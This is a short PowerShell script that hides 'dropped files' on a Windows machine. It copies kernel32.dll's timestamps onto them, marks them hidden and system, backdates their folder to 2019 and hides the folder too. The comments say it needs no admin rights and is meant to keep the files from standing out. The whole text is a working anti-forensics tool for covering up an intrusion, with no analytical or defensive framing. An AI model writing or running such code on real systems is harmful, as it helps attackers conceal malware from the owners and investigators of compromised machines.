# Blend the dropped files in with their neighbours: copy timestamps from a system binary
# and hide them. Nothing here needs admin rights.
param(
    [Parameter(Mandatory = $true)]
    [string[]]$Path,

    [string]$Reference = "$env:windir\System32\kernel32.dll"
)

$ref = Get-Item -Path $Reference

foreach ($p in $Path) {
    $item = Get-Item -Path $p -Force
    $item.CreationTime = $ref.CreationTime
    $item.LastWriteTime = $ref.LastWriteTime
    $item.LastAccessTime = $ref.LastAccessTime
    $item.Attributes = 'Hidden, System'
}

# the folder itself gives the game away if its timestamp is new
$dir = Get-Item -Path (Split-Path -Path $Path[0] -Parent) -Force
[System.IO.Directory]::SetCreationTime($dir.FullName, [datetime]'2019-12-07 09:10:21')
[System.IO.Directory]::SetLastWriteTime($dir.FullName, [datetime]'2019-12-07 09:10:21')

attrib.exe +h +s $dir.FullName
Write-Verbose -Message "Timestamps copied from $Reference"
